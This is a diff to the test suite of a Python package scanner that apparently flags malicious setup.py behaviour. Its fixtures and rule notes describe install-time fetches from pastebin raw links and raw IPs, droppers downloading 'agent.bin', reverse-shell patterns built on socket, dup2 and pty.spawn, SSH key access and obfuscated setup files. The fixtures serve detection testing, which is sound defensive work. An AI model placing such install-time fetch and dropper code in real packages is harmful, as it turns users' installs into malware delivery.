@@ -183,7 +183,7 @@ SPECS: dict[str, Spec] = {
         "fire: an *.ngrok.io collector URL in setup.py. quiet: non-raw pastebin profile, a "
         "raw.githubusercontent CSV, 'interactive' words.")),
     "PV403": Spec(S.HIGH, note=(
-        "fire: urlopen('http://1.2.3.4:8080/...') in setup.py (install + network: high). quiet:"
+        "fire: urlopen('http://51.15.64.7:8080/...') in setup.py (install + network: high). quiet:"
         " loopback, private and documentation (203.0.113.x) addresses.")),
     "PV404": Spec(S.CRITICAL, note=(
         "fire: socket + os.dup2 onto 0/1/2 + pty.spawn. quiet: a daemon that dup2s its output "
@@ -510,26 +510,30 @@ SEVERITY_PATHS = {
         "setup.py", 3, S.HIGH, "curl uploading a local file at install time"),
     "pv203-raw-ip-at-run-time": SevPath("PV203", {
         "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/update.py": _dropper(
-            "http://1.2.3.4/agent.bin")},  # a string only: nothing is ever contacted
+            "http://51.15.64.7/agent.bin")},  # a string only: nothing is ever contacted
         "mypkg/update.py", 7, S.HIGH, "run-time dropper fetching from a raw public IP"),
+    "pv203-placeholder-ip-at-run-time": SevPath("PV203", {
+        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/update.py": _dropper(
+            "http://1.2.3.4:3218/agent.bin")},
+        "mypkg/update.py", 7, S.MEDIUM, "an example address (1.2.3.4) is no raw public IP"),
     "pv203-named-host-at-run-time": SevPath("PV203", {
         "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/update.py": _dropper(
             "https://example.invalid/agent.bin")},
         "mypkg/update.py", 7, S.MEDIUM, "run-time updater fetching from a named host"),
     "pv203-raw-ip-in-tests": SevPath("PV203", {
         "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "tests/test_update.py": _dropper(
-            "http://1.2.3.4/agent.bin")},
+            "http://51.15.64.7/agent.bin")},
         "tests/test_update.py", 7, S.MEDIUM, "run-time findings in test folders: capped"),
     "pv203-raw-ip-in-bundled-virtualenv": SevPath("PV203", {
         "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "",
         "venv/lib/python3.11/site-packages/updater/core.py": _dropper(
-            "http://1.2.3.4/agent.bin")},
+            "http://51.15.64.7/agent.bin")},
         "venv/lib/python3.11/site-packages/updater/core.py", 7, S.MEDIUM,
         "run-time code of a virtualenv shipped by mistake: capped"),
     "pv203-raw-ip-in-bdist-dumb-site-packages": SevPath("PV203", {
         "PKG-INFO": _PKG_INFO,
         "Program Files/Python311/Lib/site-packages/mypkg/update.py": _dropper(
-            "http://1.2.3.4/agent.bin")},
+            "http://51.15.64.7/agent.bin")},
         "Program Files/Python311/Lib/site-packages/mypkg/update.py", 7, S.HIGH,
         "a built distribution's install tree is the package itself: not capped"),
     "pv204-xor-literal-in-cmdclass": SevPath("PV204", {"setup.py": _xor_setup()},
@@ -822,6 +826,31 @@ SEVERITY_PATHS = {
         "pyarmor_runtime()\n"
         "__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52')\n")},
         "setup.py", 1, S.HIGH, "a commercial protector hiding setup.py itself"),
+    "pv603-protector-in-setup-py-maintainer-branch": SevPath("PV603", {"setup.py": (
+        "import sys\n"
+        "from setuptools import setup\n"
+        "\n"
+        "if sys.argv[-1] == 'publish':\n"
+        "    from pytransform import pyarmor_runtime\n"
+        "    pyarmor_runtime()\n"
+        "setup(name='x')\n")},
+        "setup.py", 5, S.MEDIUM, "a protector only a maintainer command loads"),
+    "pv402-paste-link-in-setup-py": SevPath("PV402", {"setup.py": (
+        "import urllib.request\n"
+        "from setuptools import setup\n"
+        "\n"
+        "urllib.request.urlretrieve('https://pastebin.com/raw/EXAMPLE0', 'x.py')\n"
+        "setup(name='x')\n")},
+        "setup.py", 4, S.HIGH, "a paste link fetched when pip runs setup.py"),
+    "pv402-paste-link-in-setup-py-maintainer-branch": SevPath("PV402", {"setup.py": (
+        "import sys\n"
+        "import webbrowser\n"
+        "from setuptools import setup\n"
+        "\n"
+        "if sys.argv[-1] == 'publish':\n"
+        "    webbrowser.open('https://bit.ly/EXAMPLE0')\n"
+        "setup(name='x')\n")},
+        "setup.py", 6, S.MEDIUM, "a short link only a maintainer command opens"),
     "pv304-ssh-key-path-joined-from-parts": SevPath("PV304", {"setup.py": (
         "import os\n"
         "import requests\n"
@@ -991,6 +1020,23 @@ def test_severity_path(name: str, tmp_path: Path) -> None:
         + _show(result.findings))
     wrong = [f for f in own if f.severity is not case.severity]
     assert not wrong, f"expected {case.severity.value} ({case.note}):\n" + _show(wrong)
+
+
+@pytest.mark.parametrize(
+    "ip", ["1.2.3.4", "12.34.56.78", "123.45.67.89", "2.2.2.2", "125.125.125.125", "93.184.216.34"])
+def test_example_addresses_are_no_endpoint(ip: str, tmp_path: Path) -> None:
+    files = {"setup.py": (
+        "import urllib.request\n"
+        "\n"
+        "from setuptools import setup\n"
+        "\n"
+        f"urllib.request.urlopen('http://{ip}:8080/register')\n"
+        "setup(name='fixture-sev', version='1.0')\n")}
+    result = scan_target(_write(tmp_path / "pkg", files))
+    _healthy(result)
+    assert not [f for f in result.findings if f.rule_id in ("PV403", "PV407")], _show(
+        result.findings)
+    assert [f.rule_id for f in result.findings if f.rule_id == "PV406"] == ["PV406"]
 
 
 def test_capped_finding_in_tests_says_so(tmp_path: Path) -> None:
